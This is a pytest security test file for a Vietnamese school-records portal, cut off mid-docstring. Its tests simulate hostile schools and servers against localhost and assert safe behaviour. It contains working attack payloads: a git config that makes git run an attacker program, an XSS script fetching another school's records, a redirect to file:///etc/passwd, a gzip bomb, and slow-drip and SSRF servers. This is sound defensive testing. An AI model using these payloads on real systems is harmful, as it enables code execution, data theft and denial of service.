"""Attacks on the authority's view, again: `hoso portal build`, `hoso site build`'s audiences and
`hoso report`, after the fixes of issue 14 (the portal builds each repository itself, sampled
PDFs capped and streamed, one edition never put over the other without --replace-other-audience).

Threat model: whoever controls a school's repository, its work tree or its published site may be
hostile (they want the school to look compliant), and so may a teacher who pushes. A trailer, a
note, a claimed time, a school's own index.json is a claim; only a signature, a signed commit or an
authenticated pusher is evidence. Input never costs more than seconds, no build leaks a
confidential record, nothing is half-written, bad input gets a clear message and a non-zero exit.

Each test asserts the SAFE behaviour. An attack that currently gets through is marked
`xfail(strict=True)` with one line saying what gets through; the plain tests are defences that
hold today and guard against regressions.

Test files, all made at test time: school repositories from the real `hoso init` with the test
PKI (tests/test_portal.make_school, tests/test_timeliness.found_school), their sites built by
`hoso site build`, and hostile HTTP servers (http.server on 127.0.0.1, each answer bounded in
time so nothing outlives its test).
"""

from __future__ import annotations

import csv
import gzip
import http.server
import io
import json
import os
import shutil
import sqlite3
import subprocess
import threading
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from datetime import date
from pathlib import Path
from typing import Any

import pytest
import test_site as S
from conftest import cli, make_pdf
from test_portal import GROUP, SENTINEL, YEAR, Made, make_school

from hoso.portal.build import PortalResult

TO_RECORD = f"records/{YEAR}/to/{GROUP}/so-sinh-hoat-chuyen-mon/thang-09.pdf"  # signed: đã duyệt
PLAN = f"records/{YEAR}/gv/{S.GV}/ke-hoach-bai-day/tuan-02.pdf"  # unsigned: chờ duyệt


# ---- shared fixtures and small helpers ---------------------------------------------------------------


@dataclass
class Base:
    """One school repository (a THCS holding a học bạ carrying SENTINEL) and its built inspector
    site, made once per module; tests take copies before changing anything."""

    folder: Path
    env: dict[str, str]
    school: Made
    site: Path  # `hoso site build --out` of the school (inspector)
    public_site: Path  # `hoso site build --audience public --out`


@pytest.fixture(scope="module")
def base(tmp_path_factory: pytest.TempPathFactory) -> Base:
    folder = tmp_path_factory.mktemp("attacks")
    env = S.base_env(folder / "home")
    made = make_school(folder, env, "x", level="thcs", code="79000011", commune="Xã Một", secret=True)
    site, public_site = folder / "x-site", folder / "x-site-public"
    assert S.hoso(made.root, env, "site", "build", "--out", str(site)).code == 0
    run = S.hoso(made.root, env, "site", "build", "--audience", "public", "--out", str(public_site))
    assert run.code == 0, run.text
    return Base(folder, env, made, site, public_site)


def repo_copy(base: Base, dest: Path) -> Path:
    shutil.copytree(base.school.root, dest, symlinks=True)
    return dest


def site_copy(base: Base, dest: Path, *, public: bool = False) -> Path:
    shutil.copytree(base.public_site if public else base.site, dest, symlinks=True)
    return dest


def commit_all(root: Path, env: dict[str, str], message: str) -> None:
    S.git(root, env, "add", "-A")
    S.git(root, env, "commit", "-q", "--no-verify", "-m", message)


def portal(folder: Path, schools: str, *, head: str = "", out: str = "cong") -> tuple[Path, PortalResult]:
    """`hoso portal build` (the library call the command makes) over `schools` (schools.yml's
    list), written to `folder/out` with its default cache (so a second call rebuilds)."""
    from hoso.portal import config
    from hoso.portal.build import build

    yml = folder / "schools.yml"
    yml.write_text(f"version: 1\n{head}schools:\n{schools}", encoding="utf-8")
    target = folder / out
    return target, build(config.load(yml), target)


def by_slug(result: PortalResult) -> dict[str, Any]:
    return {s.slug: s for s in result.schools}


def index_of(site: Path) -> dict[str, Any]:
    data: dict[str, Any] = json.loads((site / "index.json").read_text(encoding="utf-8"))
    return data


def write_index(site: Path, data: dict[str, Any]) -> None:
    (site / "index.json").write_text(json.dumps(data, ensure_ascii=False), encoding="utf-8")


def files_holding(folder: Path, needle: bytes) -> list[str]:
    return sorted(
        p.relative_to(folder).as_posix()
        for p in folder.rglob("*")
        if p.is_file() and not p.is_symlink() and needle.lower() in p.read_bytes().lower()
    )


def sha1_blob(data: bytes) -> str:
    return S.git_blob_id(data)


# ---- hostile HTTP servers on 127.0.0.1 ------------------------------------------------------------

Route = Callable[[http.server.BaseHTTPRequestHandler], None]


class Hostile:
    """A ThreadingHTTPServer answering each path with a function of this test (any other path:
    404). Every answer that drips or streams stops by itself within `LIMIT` seconds."""

    LIMIT = 30.0

    def __init__(self, routes: dict[str, Route], host: str = "127.0.0.1") -> None:
        self.routes = routes
        self.seen: list[str] = []
        owner = self

        class Handler(http.server.BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def do_GET(self) -> None:
                owner.seen.append(self.path)
                route = owner.routes.get(self.path.split("?", 1)[0])
                try:
                    if route is None:
                        self.send_response(404)
                        self.send_header("Content-Length", "0")
                        self.end_headers()
                    else:
                        route(self)
                except OSError:
                    pass
                self.close_connection = True

            def log_message(self, format: str, *args: object) -> None:
                pass

        self.server = http.server.ThreadingHTTPServer((host, 0), Handler)
        self.server.daemon_threads = True
        self.port = self.server.server_address[1]
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def url(self, path: str = "/", host: str = "127.0.0.1") -> str:
        return f"http://{host}:{self.port}{path}"

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def servers() -> Iterator[list[Hostile]]:
    made: list[Hostile] = []
    yield made
    for s in made:
        s.close()


def body(data: bytes, content_type: str = "application/octet-stream", **headers: str) -> Route:
    def answer(h: http.server.BaseHTTPRequestHandler) -> None:
        h.send_response(200)
        h.send_header("Content-Type", content_type)
        sent = {k.replace("_", "-"): v for k, v in headers.items()}
        sent.setdefault("Content-Length", str(len(data)))
        for k, v in sent.items():
            h.send_header(k, v)
        h.end_headers()
        h.wfile.write(data)

    return answer


def serve_site(site: Path, prefix: str) -> dict[str, Route]:
    """Every file of a built site as routes under `prefix` ("/name/")."""
    return {
        prefix + p.relative_to(site).as_posix(): body(p.read_bytes()) for p in site.rglob("*") if p.is_file()
    }


def no_proxy(monkeypatch: pytest.MonkeyPatch) -> None:
    for name in ("http_proxy", "https_proxy", "HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY", "all_proxy"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("NO_PROXY", "127.0.0.1,localhost")
    monkeypatch.setenv("no_proxy", "127.0.0.1,localhost")


# ---- 1. what the portal shows as verified -------------------------------------------------------------


def test_a_doctored_site_folder_is_not_shown_as_verified(base: Base, tmp_path: Path) -> None:
    """A school hands the portal a built site folder (`path:` a folder holding index.json) whose
    index.json it edited: every record turned đã duyệt, plus a record that no repository holds,
    its PDF written beside it so that it hashes to the blob id index.json gives. The portal checks
    only that each listed PDF hashes to the listed blob: nothing ties a status, or the record
    itself, to a signature or a repository."""
    site = site_copy(base, tmp_path / "site")
    data = index_of(site)
    for r in data["records"]:
        r["status"] = "da-duyet"
    fake = json.loads(json.dumps(data["records"][0]))
    pdf = make_pdf("Kế hoạch bài dạy tuần 6 — chưa từng nộp")
    fake["path"] = fake["path"].rsplit("/", 1)[0] + "/tuan-06-bia.pdf"
    fake["blob"], fake["size"], fake["download"] = sha1_blob(pdf), len(pdf), "tep/bia.pdf"
    (site / "tep" / "bia.pdf").write_bytes(pdf)
    data["records"].append(fake)
    write_index(site, data)
    _, result = portal(tmp_path, f"  - path: {site}\n    id: x\n")
    (school,) = result.schools
    assert school.state != "ok", "a doctored index.json is shown as đã xác minh"
    assert school.state == "declared"  # files match: its records are the school's own word


def test_a_record_without_a_file_is_not_verified(base: Base, tmp_path: Path) -> None:
    """Every record of a hoso site has its PDF (`download`). A record listed without one is
    skipped by the file checks of a site folder (and of a published site's sample): a school adds
    made-up đã duyệt records with no file at all, and its blob ids need not exist anywhere."""
    site = site_copy(base, tmp_path / "site")
    data = index_of(site)
    for n in range(3):
        fake = json.loads(json.dumps(data["records"][0]))
        fake["path"] = fake["path"].rsplit("/", 1)[0] + f"/bia-{n}.pdf"
        fake["status"], fake["blob"] = "da-duyet", f"{n:040x}"
        del fake["download"]
        data["records"].append(fake)
    write_index(site, data)
    _, result = portal(tmp_path, f"  - path: {site}\n    id: x\n")
    (school,) = result.schools
    assert school.state == "unverified", school.problems


def test_a_published_site_cannot_choose_which_pdfs_are_sampled(
    base: Base, tmp_path: Path, servers: list[Hostile], monkeypatch: pytest.MonkeyPatch
) -> None:
    """The portal checks a published site (`url:`) by `verify_sample` PDFs "chosen by blob id, so
    each build checks the same ones": the lowest ids. The school's server knows which those are,
    serves them faithfully, and adds đã duyệt records whose blob ids sort last and whose PDFs do not
    exist (404)."""
    no_proxy(monkeypatch)
    site = site_copy(base, tmp_path / "site")
    data = index_of(site)
    real = len([r for r in data["records"] if r.get("download")])
    for n in range(3):
        fake = json.loads(json.dumps(data["records"][0]))
        fake["path"] = fake["path"].rsplit("/", 1)[0] + f"/bia-{n}.pdf"
        fake["status"], fake["blob"], fake["download"] = "da-duyet", "f" * 39 + str(n), f"tep/bia-{n}.pdf"
        data["records"].append(fake)
    write_index(site, data)
    server = Hostile(serve_site(site, "/x/"))
    servers.append(server)
    # The sample is drawn at random at every build: one draw of `real` among real + 3 misses the
    # 3 with a chance of 1 in 35 (real = 4); the next build draws among the PDFs not matched
    # lately, which hold the 3 — so within two builds they are caught, whatever the draws.
    states = []
    for _ in range(2):
        _, result = portal(tmp_path, f"  - url: {server.url('/x/')}\n    id: x\n    verify_sample: {real}\n")
        states.append(result.schools[0].state)
    assert states[-1] == "unverified", ("records outside the predictable sample have no PDF", states)
    asked = [p for p in server.seen if p.endswith(".pdf")]
    assert any("/bia-" in p for p in asked), asked


def test_a_poisoned_evidence_cache_in_the_schools_git_dir_approves_nothing(
    base: Base, tmp_path: Path
) -> None:
    """The portal builds a repository's site itself, "like hoso site build, with the evidence cache
    in its git directory" — `.git/hoso/cache.sqlite`, which whoever controls the school's clone can
    write. Copying the cached verdict of a signed tổ record onto the blob id of an unsigned one
    makes the unsigned record đã duyệt on the portal, shown as đã xác minh."""
    root, env = repo_copy(base, tmp_path / "x"), base.env
    forged = TO_RECORD.replace("thang-09", "thang-10")
    (root / forged).write_bytes(make_pdf("Sổ sinh hoạt tổ tháng 10 — chưa ai ký"))
    commit_all(root, env, "tháng 10")
    good = S.git(root, env, "rev-parse", f"HEAD:{TO_RECORD}").strip()
    bad = S.git(root, env, "rev-parse", f"HEAD:{forged}").strip()
    assert S.hoso(root, env, "site", "build", "--out", str(tmp_path / "warm")).code == 0  # fills the cache
    db = sqlite3.connect(root / ".git" / "hoso" / "cache.sqlite")
    with db:
        for kind, context, data in db.execute(
            "SELECT kind, context, data FROM evidence WHERE oid=? AND kind IN ('verify', 'examine')", (good,)
        ).fetchall():
            db.execute("INSERT OR REPLACE INTO evidence VALUES(?,?,?,?)", (kind, bad, context, data))
    db.close()
    out, result = portal(tmp_path, f"  - path: {root}\n    id: x\n")
    statuses = (
        {r["path"]: r["status"] for r in index_of(out / "site" / "x")["records"]}
        if (out / "site" / "x").is_dir()
        else {}
    )
    (school,) = result.schools
    assert statuses.get(forged) != "da-duyet" or school.state != "ok", statuses


@pytest.mark.parametrize("how", ["branch", "detached"])
def test_the_portal_shows_the_protected_branch_not_what_is_checked_out(
    base: Base, tmp_path: Path, how: str
) -> None:
    """Approved records live on the protected branch (catalog `protected_branch`, main): what the
    server let through. The school's clone has a submission branch (or a commit of no branch)
    checked out holding records nobody approved (or a people.yml, a trust/ nobody reviewed): the
    portal builds HEAD and shows that as the school's data, đã xác minh."""
    root, env = repo_copy(base, tmp_path / "x"), base.env
    main = S.git(root, env, "rev-parse", "main").strip()
    S.git(root, env, "switch", "-q", "-c", f"nop/{S.GV}/them")
    for n in range(5):
        (root / PLAN.replace("tuan-02", f"tuan-1{n}")).write_bytes(make_pdf(f"Tuần 1{n}"))
    commit_all(root, env, "chưa duyệt")
    if how == "detached":
        S.git(root, env, "switch", "-q", "--detach", "HEAD")
        S.git(root, env, "branch", "-q", "-D", f"nop/{S.GV}/them")
    _, result = portal(tmp_path, f"  - path: {root}\n    id: x\n")
    (school,) = result.schools
    assert school.commit == main or school.state != "ok", (school.commit, main, school.state)


def test_an_uncommitted_page_of_the_work_tree_is_not_published_as_head(base: Base, tmp_path: Path) -> None:
    """The portal says it shows "only what it built from the repository" at HEAD. Its build reads
    hand-written pages (site_src/) and mkdocs.yml from the work tree: a page nobody committed or
    reviewed ("every record approved") is published in the portal's copy of the school's site."""
    root = repo_copy(base, tmp_path / "x")
    marker = "KHONG-CO-TRONG-COMMIT-4e1b"
    (root / "site_src").mkdir(exist_ok=True)
    (root / "site_src" / "thong-bao.md").write_text(
        f"# Thông báo\n\nMọi hồ sơ đã được duyệt. {marker}\n", encoding="utf-8"
    )
    out, result = portal(tmp_path, f"  - path: {root}\n    id: x\n")
    assert result.schools[0].state == "ok"
    assert files_holding(out, marker.encode()) == []


def test_a_schools_script_does_not_run_in_the_portals_origin(base: Base, tmp_path: Path) -> None:
    """A hand-written page may hold raw HTML, scripts included (docs/site.md: reviewed, not
    sandboxed) — on the school's own site. The portal hard-links the school's site under its own
    site/<slug>/: the script runs in the portal's origin, beside every other school's pages and
    PDFs (học bạ in an inspector portal), and can read them or rewrite the portal's tables."""
    root, env = repo_copy(base, tmp_path / "x"), base.env
    (root / "site_src").mkdir(exist_ok=True)
    script = "<script>fetch('../khac/tep/hoc-ba.pdf').then(r=>r.blob())/*hoso-xss-91c*/</script>"
    (root / "site_src" / "gioi-thieu.md").write_text(f"# Giới thiệu\n\n{script}\n", encoding="utf-8")
    commit_all(root, env, "trang giới thiệu")
    out, result = portal(tmp_path, f"  - path: {root}\n    id: x\n")
    assert result.schools[0].state == "ok"
    assert files_holding(out, b"<script>fetch('../khac/") == []


def test_a_schools_git_config_runs_nothing_on_the_portals_machine(base: Base, tmp_path: Path) -> None:
    """The portal runs git (`git log` among others) inside the school's repository, which reads
    the repository's own `.git/config`. Whoever controls the clone sets `log.showSignature = true`
    and `gpg.program` (also `gpg.ssh.program`, `core.fsmonitor`) to a program of theirs, and puts
    a commit carrying a `gpgsig` header on main: every `git log` of the build runs that program,
    as the portal's user, on the authority's machine."""
    root, env = repo_copy(base, tmp_path / "x"), base.env
    marker = tmp_path / "da-chay.txt"
    program = tmp_path / "chuong-trinh.sh"
    program.write_text(f'#!/bin/sh\necho "$@" >> {marker}\nexit 1\n', encoding="utf-8")
    program.chmod(0o755)
    head = S.git(root, env, "rev-parse", "HEAD").strip()
    raw = S.git(root, env, "cat-file", "commit", head).encode()
    headers, _, message = raw.partition(b"\n\n")
    signature = b"gpgsig -----BEGIN PGP SIGNATURE-----\n \n iQEzBAABCAAdFiEE\n -----END PGP SIGNATURE-----"
    signed = headers + b"\n" + signature + b"\n\n" + message
    made = subprocess.run(
        ["git", "hash-object", "-t", "commit", "-w", "--stdin"],
        cwd=root,
        env=env,
        input=signed,
        capture_output=True,
        check=True,
    )
    S.git(root, env, "update-ref", "refs/heads/main", made.stdout.decode().strip())
    with (root / ".git" / "config").open("a", encoding="utf-8") as f:
        f.write(
            f"[log]\n\tshowSignature = true\n[gpg]\n\tprogram = {program}\n"
            f'[gpg "ssh"]\n\tprogram = {program}\n[core]\n\tfsmonitor = {program}\n'
        )
    portal(tmp_path, f"  - path: {root}\n    id: x\n")
    assert not marker.exists(), marker.read_text(encoding="utf-8")


def test_symlinks_in_a_school_folder_reach_nothing_outside(base: Base, tmp_path: Path) -> None:
    """A school's site folder holds symlinks to files of the portal's machine: an extra file and a
    folder beside its pages (the site still verifies: they are not records), and a listed PDF
    replaced by a symlink to a byte-identical file outside (it must not verify)."""
    secret = tmp_path / "may-chu"
    secret.mkdir()
    (secret / "mat-khau.txt").write_bytes(b"BIMAT-MAY-CHU-77aa")
    links = site_copy(base, tmp_path / "links")
    (links / "mat-khau.txt").symlink_to(secret / "mat-khau.txt")
    (links / "thu-muc").symlink_to(secret, target_is_directory=True)
    pdf_link = site_copy(base, tmp_path / "pdf-link")
    record = next(r for r in index_of(pdf_link)["records"] if r.get("download"))
    outside = tmp_path / "ngoai.pdf"
    shutil.copyfile(pdf_link / record["download"], outside)
    (pdf_link / record["download"]).unlink()
    (pdf_link / record["download"]).symlink_to(outside)
    out, result = portal(
        tmp_path, f"  - path: {links}\n    id: links\n  - path: {pdf_link}\n    id: pdf-link\n"
    )
    states = by_slug(result)
    assert states["links"].state == "declared", states["links"].problems
    assert not (out / "site" / "links").exists()  # a site folder is verified, never hosted…
    published = S.site_files(out)
    assert published and [rel for rel, data in published.items() if b"BIMAT-MAY-CHU" in data] == []
    assert states["pdf-link"].state == "unverified"  # …a symlinked PDF is not a file of the site
    assert not (out / "site" / "pdf-link").exists()


def test_a_school_cannot_take_the_id_the_authority_gave_another(base: Base, tmp_path: Path) -> None:
    """schools.yml pins school A to `id: 79000011` (its code: truong/79000011.html). School B,
    listed first without an id, says in its index.json that its code is 79000011: its slug, from
    its code, is given first, and A — the school the authority named — becomes 79000011-2."""
    a = site_copy(base, tmp_path / "a")
    b = site_copy(base, tmp_path / "b")
    data = index_of(b)
    data["school"]["name"] = "Trường THCS Mạo Danh"
    write_index(b, data)
    _, result = portal(tmp_path, f"  - path: {b}\n  - path: {a}\n    id: '79000011'\n")
    names = {s.slug: s.name for s in result.schools}
    assert names.get("79000011") == base.school.name, names


def test_two_entries_with_one_id_are_refused(base: Base, tmp_path: Path) -> None:
    """Two entries of schools.yml given the same `id:` (one folder of the portal for two schools)
    are refused before anything is built, naming the line of the second."""
    from hoso.errors import ConfigError

    with pytest.raises(ConfigError) as refused:
        portal(tmp_path, f"  - path: {base.site}\n    id: x\n  - path: {base.public_site}\n    id: x\n")
    assert "schools.yml:5" in refused.value.render() and "'x'" in refused.value.render()
    assert not (tmp_path / "cong").exists()


def test_two_schools_claiming_one_code_are_flagged(base: Base, tmp_path: Path) -> None:
    """A school code identifies a school to the Sở (the CSV's Mã trường). A second school's
    repository says, in its catalog, the code of another school of the portal: both build, both
    verify, and the exports hold two rows with the same code and no word about it."""
    env = base.env
    other = make_school(tmp_path, env, "y", level="thcs", code="79000011", commune="Xã Hai")
    a = repo_copy(base, tmp_path / "x")
    _, result = portal(tmp_path, f"  - path: {a}\n  - path: {other.root}\n")
    ok = [s for s in result.schools if s.state == "ok" and s.code == "79000011"]
    assert len(ok) <= 1, [(s.slug, s.name, s.state) for s in ok]


# ---- 2. published sites (url:) that answer badly ---------------------------------------------------------


def drip_headers(h: http.server.BaseHTTPRequestHandler) -> None:
    """A status line, then one byte of a header every 0.3 s (each read well inside the timeout)."""
    h.wfile.write(b"HTTP/1.1 200 OK\r\nX-Cham: ")
    h.wfile.flush()
    end = time.monotonic() + 12
    while time.monotonic() < end:
        h.wfile.write(b"a")
        h.wfile.flush()
        time.sleep(0.3)


def trickle(h: http.server.BaseHTTPRequestHandler) -> None:
    """A body at 20 KiB/s, just above MIN_RATE (16 KiB/s), no Content-Length, for 12 s."""
    h.send_response(200)
    h.end_headers()
    end = time.monotonic() + 12
    while time.monotonic() < end:
        h.wfile.write(b" " * 2048)
        h.wfile.flush()
        time.sleep(0.1)


def timed_fetch(url: str, limit: int, within: float) -> tuple[float, BaseException | None, bool]:
    """fetch(url) with a 1 s timeout in a thread: (seconds waited, its error, still running)."""
    from hoso.portal import fetch

    done: list[BaseException | None] = []

    def run() -> None:
        try:
            fetch.fetch(url, limit, timeout=1.0)
            done.append(None)
        except BaseException as exc:  # reported to the test
            done.append(exc)

    started = time.monotonic()
    worker = threading.Thread(target=run, daemon=True)
    worker.start()
    worker.join(within)
    return time.monotonic() - started, done[0] if done else None, worker.is_alive()


def test_a_server_dripping_its_headers_cannot_hold_the_build(
    servers: list[Hostile], monkeypatch: pytest.MonkeyPatch
) -> None:
    """The body is read at a minimum rate past the first timeout, the status line and headers are
    not: http.client reads them a line at a time, each read within the timeout, up to 100 headers
    of 64 KiB. A school's server sending a header byte now and then keeps the portal waiting for
    hours. With a 1 s timeout the fetch must give up within a few seconds."""
    no_proxy(monkeypatch)
    server = Hostile({"/index.json": drip_headers})
    servers.append(server)
    from hoso.portal.index import MAX_INDEX_BYTES

    waited, error, running = timed_fetch(server.url("/index.json"), MAX_INDEX_BYTES, within=6)
    assert not running and error is not None, f"still waiting after {waited:.1f} s"


def test_a_server_trickling_above_the_minimum_rate_cannot_hold_the_build(
    servers: list[Hostile], monkeypatch: pytest.MonkeyPatch
) -> None:
    """MIN_RATE bounds the average rate, not the time: a school's server that keeps 20 KiB/s
    never trips it, and an index.json may be 512 MiB (a sampled PDF 500 MiB, twenty of them):
    hours for one school. Here 12 s of trickle; a fetch with a 1 s timeout must end well before."""
    no_proxy(monkeypatch)
    server = Hostile({"/index.json": trickle})
    servers.append(server)
    from hoso.portal.index import MAX_INDEX_BYTES

    waited, error, running = timed_fetch(server.url("/index.json"), MAX_INDEX_BYTES, within=6)
    assert not running and error is not None, f"still reading after {waited:.1f} s"


def gzip_bomb() -> bytes:
    """1 GiB of spaces as ten gzip members (about 1 MB on the wire)."""
    member = gzip.compress(b" " * (100 << 20), compresslevel=9, mtime=0)
    return member * 10


def endless(h: http.server.BaseHTTPRequestHandler) -> None:
    h.send_response(200)
    h.send_header("Content-Type", "application/pdf")
    h.end_headers()  # no Content-Length: the body ends when the server closes, i.e. never
    end = time.monotonic() + Hostile.LIMIT
    while time.monotonic() < end:
        h.wfile.write(b"\0" * 65536)


def short(data: bytes) -> Route:
    """Content-Length says the whole file; half of it is sent, then the connection closes."""

    def answer(h: http.server.BaseHTTPRequestHandler) -> None:
        h.send_response(200)
        h.send_header("Content-Length", str(len(data)))
        h.end_headers()
        h.wfile.write(data[: len(data) // 2])

    return answer


def redirect(location: str) -> Route:
    def answer(h: http.server.BaseHTTPRequestHandler) -> None:
        h.send_response(302)
        h.send_header("Location", location)
        h.send_header("Content-Length", "0")
        h.end_headers()

    return answer


def test_hostile_servers_end_in_seconds_and_the_rest_of_the_portal_is_built(
    base: Base, tmp_path: Path, servers: list[Hostile]
) -> None:
    """One portal over seven published sites on one server: a faithful one, and six that answer
    the portal's reads badly — every sampled PDF an endless body, PDFs cut short of their
    Content-Length and an index.json declaring 1 TB, index.json as a gzip bomb sent with
    `Content-Encoding: gzip`, a redirect to file:///etc/passwd, index.json nested 100,000 deep.
    Each must end in seconds with a message naming the school and the reason, the good school
    verified and published, `hoso portal build` exiting 1 without a traceback."""
    site = base.site
    index = (site / "index.json").read_bytes()
    pdfs = {
        "/" + r["download"]: (site / r["download"]).read_bytes()
        for r in index_of(site)["records"]
        if r.get("download")
    }
    routes: dict[str, Route] = serve_site(site, "/good/")
    routes["/endless/index.json"] = body(index)
    routes.update({"/endless" + p: endless for p in pdfs})
    routes["/short/index.json"] = body(index)
    routes.update({"/short" + p: short(data) for p, data in pdfs.items()})
    routes["/tb/index.json"] = body(index, Content_Length=str(10**12))
    routes["/gzip/index.json"] = body(gzip_bomb(), "application/json", Content_Encoding="gzip")
    routes["/file/index.json"] = redirect("file:///etc/passwd")
    routes["/nested/index.json"] = body(b"[" * 100_000 + b"]" * 100_000, "application/json")
    server = Hostile(routes)
    servers.append(server)
    names = ("good", "endless", "short", "tb", "gzip", "file", "nested")
    yml = tmp_path / "schools.yml"
    yml.write_text(
        "version: 1\nschools:\n" + "".join(f"  - url: {server.url(f'/{n}/')}\n    id: {n}\n" for n in names),
        encoding="utf-8",
    )
    env = {**base.env, "NO_PROXY": "127.0.0.1", "no_proxy": "127.0.0.1"}
    started = time.monotonic()
    run = S.hoso(tmp_path, env, "portal", "build", "--schools", str(yml), "--out", str(tmp_path / "p"))
    took = time.monotonic() - started
    assert run.code == 1 and "Traceback" not in run.text and "internal" not in run.err.lower(), run.text
    assert took < 20, f"{took:.0f} s"  # an endless answer lasts Hostile.LIMIT (30 s)
    info = json.loads((tmp_path / "p" / "build-info.json").read_text(encoding="utf-8"))
    states = {s["slug"]: s["state"] for s in info["schools"]}
    assert states == {
        "good": "declared",
        "endless": "unverified",
        "short": "unverified",
        "tb": "error",
        "gzip": "error",
        "file": "error",
        "nested": "error",
    }, states
    lines = {n: [line for line in run.err.splitlines() if f"/{n}/" in line] for n in names[1:]}
    assert all(lines.values()), run.err
    assert "tệp PDF không khớp" in lines["endless"][0] and "tệp PDF không khớp" in lines["short"][0]
    assert "không tải được" in lines["tb"][0] and "không tải được" in lines["file"][0]
    assert "không phải JSON" in lines["gzip"][0] and "không phải JSON" in lines["nested"][0]
    assert "/etc/passwd" not in "".join(S.site_files(tmp_path / "p").keys())
    good = tmp_path / "p" / "truong" / "good.html"
    assert "Trường tự khai" in S.article(good).text()
    assert server.url("/good/") in good.read_text(encoding="utf-8")  # its site: where it is published


def test_a_redirect_does_not_send_the_portal_to_another_host(
    base: Base, tmp_path: Path, servers: list[Hostile], monkeypatch: pytest.MonkeyPatch
) -> None:
    """schools.yml names the school's address; its server answers 302 to another host — here a
    second server on this machine standing for the Sở's internal network (an intranet page, a
    router, a cloud metadata address). The portal follows it, and the reason it shows on its
    pages ("HTTP 401", "Connection refused") tells the school what is there."""
    no_proxy(monkeypatch)
    inside = Hostile(serve_site(base.site, "/x/"))
    school = Hostile({"/x/index.json": redirect(inside.url("/x/index.json", host="localhost"))})
    servers.extend([inside, school])
    portal(tmp_path, f"  - url: {school.url('/x/')}\n    id: x\n")
    assert inside.seen == [], inside.seen


def test_an_index_of_many_records_is_refused_in_seconds(base: Base, tmp_path: Path) -> None:
    """index.json may be 512 MiB; a minimal record is about 200 bytes, so a school's server can
    list 2.5 million of them (a real school lists a few thousand a year). They are parsed at once,
    stored and rendered into its year page. Here 400,000 (a tenth of that): the build must end
    in seconds (refusing the school with a message), not minutes."""
    site = site_copy(base, tmp_path / "site")
    data = index_of(site)
    proto = {k: v for k, v in data["records"][0].items() if k not in ("download", "events", "signers")}
    data["records"] = [{**proto, "path": f"r/{n}", "title": "t"} for n in range(400_000)]
    write_index(site, data)
    yml = tmp_path / "schools.yml"
    yml.write_text(f"version: 1\nschools:\n  - path: {site}\n    id: x\n", encoding="utf-8")
    try:
        run = S.hoso(
            tmp_path,
            base.env,
            "portal",
            "build",
            "--schools",
            str(yml),
            "--out",
            str(tmp_path / "p"),
            timeout=15,
        )
    except subprocess.TimeoutExpired:
        pytest.fail("the portal build was still running after 15 s")
    assert run.code == 1 and "Traceback" not in run.text, run.text


# ---- 3. one audience's build never replaces the other's folder --------------------------------------


def leaked(folder: Path) -> list[str]:
    return [rel for rel, data in S.site_files(folder).items() if SENTINEL.lower().encode() in data.lower()]


def public_folder(base: Base, tmp_path: Path) -> Path:
    """/srv/hoso/cong-khai: the school's public edition, served to everyone."""
    folder = tmp_path / "srv" / "cong-khai"
    folder.parent.mkdir(parents=True)
    return site_copy(base, folder, public=True)


def test_a_forged_build_info_does_not_let_the_inspector_edition_into_the_public_folder(
    base: Base, tmp_path: Path
) -> None:
    """Someone who can write the served public folder (the web server's account, a colleague with
    the same login) edits its build-info.json to say `inspector`. The next inspector build whose
    cron line names the public folder by mistake puts học bạ there without
    --replace-other-audience: index.json (and every page) still says `public`."""
    root = repo_copy(base, tmp_path / "x")
    folder = public_folder(base, tmp_path)
    info = json.loads((folder / "build-info.json").read_text(encoding="utf-8"))
    info["audience"] = "inspector"
    (folder / "build-info.json").write_text(json.dumps(info), encoding="utf-8")
    run = S.hoso(root, base.env, "site", "build", "--out", str(folder))
    assert run.code == 3 and leaked(folder) == [], run.text


@pytest.mark.parametrize("how", ["removed", "nested", "directory"])
def test_a_public_folder_that_lost_its_build_info_is_not_replaced(
    base: Base, tmp_path: Path, how: str
) -> None:
    """The public folder's build-info.json deleted, replaced by JSON nested 100,000 deep, or by a
    folder: its index.json (or its other files) still say what it holds, and an inspector build
    without --replace-other-audience is refused with a message, the folder left as it was."""
    root = repo_copy(base, tmp_path / "x")
    folder = public_folder(base, tmp_path)
    info = folder / "build-info.json"
    info.unlink()
    if how == "nested":
        info.write_bytes(b"[" * 100_000 + b"]" * 100_000)
    elif how == "directory":
        info.mkdir()
    before = S.site_files(folder)
    run = S.hoso(root, base.env, "site", "build", "--out", str(folder))
    assert run.code == 3 and "Traceback" not in run.text, run.text
    assert "--replace-other-audience" in run.err or "build-info.json" in run.err
    assert S.site_files(folder) == before


@pytest.mark.parametrize("how", ["out-is-a-symlink", "site-is-a-symlink"])
def test_a_symlinked_site_folder_does_not_hide_the_public_edition(
    base: Base, tmp_path: Path, how: str
) -> None:
    """`--out` names a symlink to the public folder, or the work tree's `site/` (the inspector
    build's default) is a symlink to `site-public/`: the build follows the link to the folder it
    would replace, sees a public edition, and refuses."""
    root = repo_copy(base, tmp_path / "x")
    if how == "out-is-a-symlink":
        folder = public_folder(base, tmp_path)
        link = tmp_path / "lien-ket"
        link.symlink_to(folder, target_is_directory=True)
        run = S.hoso(root, base.env, "site", "build", "--out", str(link))
    else:
        shutil.rmtree(root / "site", ignore_errors=True)
        shutil.rmtree(root / "site-public", ignore_errors=True)
        folder = site_copy(base, root / "site-public", public=True)
        (root / "site").symlink_to("site-public", target_is_directory=True)
        run = S.hoso(root, base.env, "site", "build")
    assert run.code == 3 and "--replace-other-audience" in run.err, run.text
    assert leaked(folder) == []
    assert json.loads((folder / "build-info.json").read_text(encoding="utf-8"))["audience"] == "public"


def test_a_site_folder_that_is_a_file_is_refused(base: Base, tmp_path: Path) -> None:
    """`--out` names a file, not a folder: refused with a message naming it, exit 3, the file
    untouched, no temporary folder left beside it."""
    root = repo_copy(base, tmp_path / "x")
    target = tmp_path / "cong-khai"
    target.write_bytes(b"khong phai thu muc")
    run = S.hoso(root, base.env, "site", "build", "--audience", "public", "--out", str(target))
    assert run.code == 3 and "Traceback" not in run.text and str(target) in run.err, run.text
    assert target.read_bytes() == b"khong phai thu muc"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["cong-khai", "x"]


def test_an_interrupted_swap_leaves_the_last_good_public_site(
    base: Base, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A public build is interrupted (Ctrl-C, the cron job's timeout) after the old folder was
